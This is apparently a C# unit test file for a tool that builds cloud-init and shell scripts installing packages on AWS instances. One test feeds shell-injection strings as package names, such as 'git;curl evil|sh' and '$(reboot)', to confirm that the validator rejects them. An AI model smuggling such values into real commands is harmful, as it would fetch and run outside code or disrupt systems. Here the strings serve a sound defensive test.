using System.Linq;
using System.Text;
using AwsWiki.Essentials;

namespace AwsWiki.Core.Tests.Essentials;

public sealed class EssentialsScriptTests
{
    [Fact]
    public void Create_WritesExtrasAndDockerChoiceIntoTheScript()
    {
        var script = EssentialsScript.Create(new[] { "nginx", " strace " }, includeDocker: true);
        Assert.Contains("\nEXTRA_PACKAGES=(nginx strace)\n", script.Text);
        Assert.Contains("\nINSTALL_DOCKER=yes\n", script.Text);
        Assert.Equal(EssentialsScript.BasePackages.Concat(new[] { "nginx", "strace", "docker" }), script.Packages);
    }

    [Fact]
    public void Create_WithoutDocker()
    {
        var script = EssentialsScript.Create(null, includeDocker: false);
        Assert.Contains("\nINSTALL_DOCKER=no\n", script.Text);
        Assert.Contains("\nEXTRA_PACKAGES=()\n", script.Text);
        Assert.DoesNotContain("docker", script.Packages);
    }

    [Fact]
    public void Create_DropsDuplicatesAndBasePackages()
    {
        var basePackage = EssentialsScript.BasePackages[0];
        var script = EssentialsScript.Create(new[] { "nginx", "nginx", basePackage, "docker" }, includeDocker: true);
        Assert.Equal(new[] { "nginx" }, script.ExtraPackages);
    }

    [Fact]
    public void BasePackages_AreReadFromTheShippedScript()
    {
        Assert.NotEmpty(EssentialsScript.BasePackages);
        Assert.Contains("git", EssentialsScript.BasePackages);
    }

    [Theory]
    [InlineData("git;curl evil|sh")]
    [InlineData("$(reboot)")]
    [InlineData("a b")]
    [InlineData("")]
    [InlineData("-rf")]
    public void Create_RefusesWhatAShellWouldInterpret(string name)
    {
        var failure = Assert.Throws<AwsWikiException>(() => EssentialsScript.Create(new[] { name }, includeDocker: true));
        Assert.Equal("InvalidPackageName", failure.ErrorId);
        Assert.Equal(name, failure.Target);
    }

    [Theory]
    [InlineData("python3-devel")]
    [InlineData("gcc-c++")]
    [InlineData("perl:5.32")]
    [InlineData("lib_x.y")]
    public void Create_AcceptsRealPackageNames(string name) => Assert.Contains(name, EssentialsScript.Create(new[] { name }, false).ExtraPackages);

    [Fact]
    public void ToUserData_IsACloudInitScriptWithLfEndings()
    {
        var userData = EssentialsScript.Create(new[] { "nginx" }, true).ToUserData();
        Assert.StartsWith("#!/bin/bash\n", userData);
        Assert.DoesNotContain("\r", userData);
        Assert.True(Encoding.UTF8.GetByteCount(userData) <= EssentialsScript.UserDataLimitBytes);
    }

    [Fact]
    public void ToUserData_RefusesOver16KiB()
    {
        var script = EssentialsScript.Create(Enumerable.Range(1, 1200).Select(i => $"package-number-{i}"), true);
        var failure = Assert.Throws<AwsWikiException>(() => script.ToUserData());
        Assert.Equal("UserDataTooLarge", failure.ErrorId);
        Assert.Equal(FailureKind.LimitsExceeded, failure.Kind);
        Assert.True(script.Text.Length > 16384);
    }

    [Fact]
    public void WrapForShell_WritesTheScriptToAFileAndKeepsItsExitCode()
    {
        var lines = EssentialsScript.WrapForShell("#!/bin/bash\necho hi\n");
        Assert.StartsWith("awswiki_script=\"$(mktemp", lines[0]);
        Assert.Matches("^cat >\"\\$awswiki_script\" <<'(.+)'$", lines[1]);
        var marker = lines[1].Split('\'')[1];
        Assert.Equal(new[] { "#!/bin/bash", "echo hi", marker }, lines.Skip(2).Take(3));
        Assert.Equal("exit \"$awswiki_status\"", lines.Last());
        Assert.DoesNotContain(marker, EssentialsScript.Create(null, true).Text);
    }

    [Fact]
    public void DocumentTemplate_HasTheParameterPlaceholders()
    {
        Assert.Contains("\nEXTRA_PACKAGES=({{ ExtraPackages }})\n", EssentialsScript.DocumentTemplateText);
        Assert.Contains("\nINSTALL_DOCKER={{ InstallDocker }}\n", EssentialsScript.DocumentTemplateText);
    }

    [Fact]
    public void ToDocumentParameters_FillsThem()
    {
        var parameters = EssentialsScript.Create(new[] { "nginx", "strace" }, false).ToDocumentParameters(3600);
        Assert.Equal(new[] { "nginx strace" }, parameters["ExtraPackages"]);
        Assert.Equal(new[] { "no" }, parameters["InstallDocker"]);
        Assert.Equal(new[] { "3600" }, parameters["executionTimeout"]);
    }
}
